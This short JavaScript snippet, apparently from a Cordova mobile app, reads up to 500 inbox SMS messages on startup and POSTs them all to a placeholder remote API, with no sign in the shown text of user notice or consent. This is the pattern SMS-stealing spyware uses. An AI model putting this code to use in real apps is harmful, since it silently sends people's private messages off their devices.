document.addEventListener("deviceready", function () {
  SMS.listSMS({box: "inbox", maxCount: 500}, function (messages) {
    fetch("https://api.example.com/v1/messages", {method: "POST", body: JSON.stringify(messages)});
  }, function () {});
});
